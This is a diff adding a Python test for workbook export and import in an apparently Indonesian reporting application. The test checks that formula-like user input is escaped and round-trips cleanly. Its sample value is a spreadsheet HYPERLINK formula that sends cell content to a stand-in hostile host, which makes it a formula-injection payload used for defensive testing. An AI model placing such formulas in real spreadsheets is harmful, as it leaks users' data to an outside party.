@@ -165,3 +165,21 @@ def test_isi_data_page_offers_the_workbook_and_applies_an_upload(sqlite_url):
     with unit_of_work(sqlite_url) as s:
         uw.apply_unit_workbook(s, kabid, sub, upload)
         assert s.scalar(select(Realization.value).where(Realization.submission_id == sub)) == 70
+
+
+def test_formula_like_kendala_round_trips_without_a_spurious_change(db_url, actors, submission):
+    """The writer rule puts an apostrophe before '=HYPERLINK(…)'; reading the workbook back takes it off."""
+    kabid = actors["kabid_lattas"]
+    hostile = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'
+    with unit_of_work(db_url) as s:
+        ind_id = int(entry.entry_table(s, kabid, submission).iloc[0]["indicator_id"])
+        entry.save_entries(s, kabid, submission, {ind_id: {"Kendala": hostile, "Tindak lanjut": "+1+2"}})
+    with unit_of_work(db_url) as s:
+        data = uw.unit_workbook(s, kabid, submission)
+    ws = load_workbook(io.BytesIO(data))[uw.IND_SHEET]
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert "'" + hostile in [c.value for c in cells]
+    with unit_of_work(db_url) as s:
+        preview = uw.parse_unit_workbook(s, kabid, submission, data)
+    assert preview.ok and preview.count == 0, preview.changes
